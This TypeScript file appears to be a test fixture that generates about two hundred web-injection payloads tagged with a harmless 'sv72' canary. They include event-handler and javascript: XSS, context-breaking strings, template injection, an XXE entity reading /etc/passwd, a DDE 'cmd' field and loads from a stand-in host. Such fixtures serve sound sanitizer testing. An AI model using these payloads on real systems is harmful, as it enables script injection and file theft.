/** Everything that would run, would call this, which the test has put into the page. */
const RUN = 'sv72()';
const CODED = '&#115;&#118;&#55;&#50;&#40;&#41;';

const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbegin', 'oncut'];
const ELEMENTS: readonly (readonly [string, string])[] = [
  ['img', 'src=x'], ['svg', ''], ['body', ''], ['input', 'autofocus'], ['details', 'open'], ['video', 'src=x'], ['audio', 'src=x'], ['marquee', ''], ['object', 'data=x'], ['iframe', 'src=x'], ['a', 'href=#'], ['table', 'background=x'],
];
/** Twelve elements with ten events: 120. */
const withEvents = ELEMENTS.flatMap(([element, more], n) => EVENTS.map((event, m) => {
  const quote = ['', '"', "'", '`'][(n + m) % 4] ?? '';
  return `<${element} data-sv72 ${more} ${event}=${quote}${RUN}${quote}${(n + m) % 3 === 0 ? '/' : ''}>`;
}));

/** How a text gets out of where it stands: a tag, an attribute, a comment, a script, a style, a template, XML. */
const BREAKERS = ['">', "'>", '-->', '</script>', '</style>', '</title>', '</textarea>', ']]>', '`}', '\\";'];
const breaking = BREAKERS.flatMap((out) => [`${out}<script data-sv72>${RUN}</script>`, `${out}<img data-sv72 src=x onerror=${RUN}>`, `${out}${RUN}//`]);

const single = [
  `<script data-sv72>${RUN}</script>`, `<ScRiPt data-sv72>${RUN}</sCrIpT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script data-sv72 src=data:,${RUN}></script>`, `<script data-sv72 src=//example.invalid/x.js></script>`,
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `&#106;avascript:${RUN}`, `vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5zdjcyKCk8L3NjcmlwdD4=`,
  `<a data-sv72 href="javascript:${RUN}">x</a>`, `<a data-sv72 href=" &#14; javascript:${RUN}">x</a>`, `<form data-sv72 action=javascript:${RUN}><button>x</button></form>`, `<button data-sv72 formaction=javascript:${RUN}>x</button>`,
  `<iframe data-sv72 srcdoc="<script>${RUN}</script>">`, `<iframe data-sv72 src=javascript:${RUN}>`, `<embed data-sv72 src=javascript:${RUN}>`, `<object data-sv72 data=javascript:${RUN}>`, `<base data-sv72 href=//example.invalid/>`,
  `<meta data-sv72 http-equiv=refresh content="0;url=javascript:${RUN}">`, `<link data-sv72 rel=stylesheet href=//example.invalid/x.css>`, `<style data-sv72>@import'//example.invalid/x.css'</style>`, `<style data-sv72>*{display:none}</style>`,
  `<svg data-sv72><script>${RUN}</script></svg>`, `<svg data-sv72><animate onbegin=${RUN} attributeName=x>`, `<svg data-sv72><a xlink:href=javascript:${RUN}>`, `<svg data-sv72><use href="data:image/svg+xml,<svg onload=${RUN}>">`, `<math data-sv72><mtext><img src=x onerror=${RUN}>`,
  `<img data-sv72 src=x onerror=${CODED}>`, `<img data-sv72 src=x onerror=eval(name)>`, `<img data-sv72 src="http://example.invalid/?"`, `<template data-sv72><img src=x onerror=${RUN}></template>`, `<noscript data-sv72><p title="</noscript><img src=x onerror=${RUN}>">`,
  `\${${RUN}}`, `{{constructor.constructor("${RUN}")()}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `{{{${RUN}}}}`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `‹script›${RUN}‹/script›`,
  `<w:fldSimple w:instr="DDEAUTO cmd sv72"/>`, `</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "//example.invalid/sv72"</w:instrText>`, `) Tj ET /JavaScript (${RUN}) % sv72`, `<!DOCTYPE x [<!ENTITY sv72 SYSTEM "file:///etc/passwd">]>&sv72;`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `=HYPERLINK("javascript:${RUN}")`,
];

/** Two hundred texts that would run a script, load something or break a page where a text is taken for markup. All say «sv72». */
export const PAYLOADS: readonly string[] = [...withEvents, ...breaking, ...single];
